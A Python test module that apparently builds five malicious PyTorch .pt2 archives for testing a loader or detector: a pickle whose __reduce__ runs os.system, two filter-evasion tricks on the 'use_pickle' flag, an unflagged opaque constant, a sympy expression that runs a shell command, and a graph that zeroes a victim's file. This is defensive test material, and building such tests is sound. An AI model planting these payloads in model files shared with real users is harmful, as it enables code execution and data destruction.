"""Five detector files that run what they want in a reader of `.pt2`: made for the tests, harmless (each writes one file)."""
import json
import os
import pickle
import zipfile


class Shell:
    "Unpickled, it runs a command."

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def rewritten(file, path, change):
    "A copy of an archive, each part through `change(name, data) -> (name, data)`."
    with zipfile.ZipFile(file) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as new:
        for name in old.namelist():
            new.writestr(*change(name, old.read(name)))
    return path


def flag(file, path, command, text=b'"use_pickle": 1'):
    "(a) The flag is 1, not true: a filter that looks for the word `true` does not see it."

    def change(name, data):
        if name.endswith("weights/weight_0"):
            data = pickle.dumps(Shell(command))
        if name.endswith("weights_config.json"):
            data = data.replace(b'"use_pickle": false', text, 1)
        return name, data

    return rewritten(file, path, change)


def escaped(file, path, command):
    "(b) The key is written with an escape: a filter that reads raw bytes does not see it."
    return flag(file, path, command, rb'"use_pickl\u0065": true')


def opaque(file, path, command):
    "(c) A constant whose name says that it is an object is unpickled without any flag."
    data = pickle.dumps(Shell(command))
    meta = {"dtype": 1, "sizes": [{"as_int": len(data)}], "requires_grad": False, "layout": 7, "strides": [{"as_int": 1}],
            "device": {"type": "cpu", "index": None}, "storage_offset": {"as_int": 0}}
    entry = {"path_name": "opaque_obj_0.json", "is_param": False, "use_pickle": False, "tensor_meta": meta}

    def change(name, old):
        return name, json.dumps({"config": {"x": entry}}).encode() if name.endswith("constants_config.json") else old

    rewritten(file, path, change)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("archive/data/constants/opaque_obj_0.json", data)
    return path


def expression(file, path, command):
    "(d) No pickle: the symbol for the number of images is a text that sympy evaluates."
    code = f"__import__('os').system('{command}')"

    def change(name, data):
        return name, data.replace(b"Symbol('s", json.dumps(code)[1:-1].encode() + b" or Symbol('s") if name.endswith("model.json") else data

    return rewritten(file, path, change)


def graph(file, path, victim):
    "(e) Neither pickle nor expression: two ordinary operators of torch map a file of the user and fill it with zeros."
    one = lambda name, kind, value: {"name": name, "arg": {kind: value}, "kind": 1}
    node = lambda name, target, *inputs: {
        "target": f"torch.ops.aten.{target}", "inputs": list(inputs), "outputs": [{"as_tensor": {"name": name}}],
        "metadata": {}, "is_hop_single_tensor_return": None, "name": name}
    held = node("held", "from_file.default", one("filename", "as_string", str(victim)), one("shared", "as_bool", True),
                one("size", "as_int", 4), one("dtype", "as_scalar_type", 1) | {"kind": 2})
    filled = node("filled", "fill_.Scalar", one("self", "as_tensor", {"name": "held"}), one("value", "as_int", 0))
    meta = {"dtype": 1, "sizes": [{"as_int": 4}], "requires_grad": False, "layout": 7, "strides": [{"as_int": 1}],
            "device": {"type": "cpu", "index": None}, "storage_offset": {"as_int": 0}}

    def change(name, data):
        if name.endswith("model.json"):
            model = json.loads(data)
            inside = model["graph_module"]["graph"]
            inside["nodes"][:0] = [held, filled]
            inside["tensor_values"] |= {"held": meta, "filled": meta}
            data = json.dumps(model).encode()
        return name, data

    return rewritten(file, path, change)


ATTACKS = {"a flag": flag, "b escape": escaped, "c opaque": opaque, "d expression": expression, "e graph": graph}
